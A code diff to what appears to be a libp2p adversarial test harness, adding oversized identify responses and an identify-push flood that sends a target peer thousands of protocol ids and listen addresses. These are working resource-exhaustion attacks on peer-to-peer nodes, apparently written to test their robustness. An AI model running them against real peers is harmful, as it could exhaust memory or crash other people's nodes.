@@ -274,9 +274,11 @@ async def claim_relay_flood(host: Any, args: dict[str, Any]) -> int:
 @attack("bloated_identify")
 async def bloated_identify(host: Any, args: dict[str, Any]) -> bool:
     """Answer identify with an ``args["agent"]``-char agent and protocol version,
-    ``args["protocols"]`` protocol ids and ``args["addrs"]`` listen addresses."""
+    ``args["protocols"]`` protocol ids (and ``args["long_protocols"]`` 300-char ones) and
+    ``args["addrs"]`` listen addresses."""
     agent = "A" * int(args.get("agent", 65536))
     protocols = [f"/bloat/{i}/1.0.0" for i in range(int(args.get("protocols", 0)))]
+    protocols += [f"/long/{i}/" + "x" * 300 for i in range(int(args.get("long_protocols", 0)))]
     addrs = [
         multiaddr.Multiaddr(f"/ip4/10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}/tcp/1")
         for i in range(int(args.get("addrs", 0)))
@@ -308,3 +310,24 @@ async def hold_count(host: Any, args: dict[str, Any]) -> int:
                 await stream.reset()
         HELD.clear()
     return count
+
+
+@attack("identify_push_bloat")
+async def identify_push_bloat(host: Any, args: dict[str, Any]) -> bool:
+    """Push (``/ipfs/id/push/1.0.0``) to ``args["peer"]`` an identify update with
+    ``args["protocols"]`` protocol ids and ``args["addrs"]`` listen addresses."""
+    from libp2p.identity.identify_push.identify_push import ID_PUSH
+
+    message = Identify(
+        protocols=[f"/pushed/{i}/1.0.0" for i in range(int(args.get("protocols", 0)))],
+        listen_addrs=[
+            multiaddr.Multiaddr(f"/ip4/10.9.{i // 256 % 256}.{i % 256}/tcp/1").to_bytes()
+            for i in range(int(args.get("addrs", 0)))
+        ],
+    )
+    stream = await host.new_stream(ID.from_base58(args["peer"]), [ID_PUSH])
+    with trio.fail_after(10):
+        await write_delimited(stream, message.SerializeToString())
+    with contextlib.suppress(Exception):
+        await stream.close()
+    return True
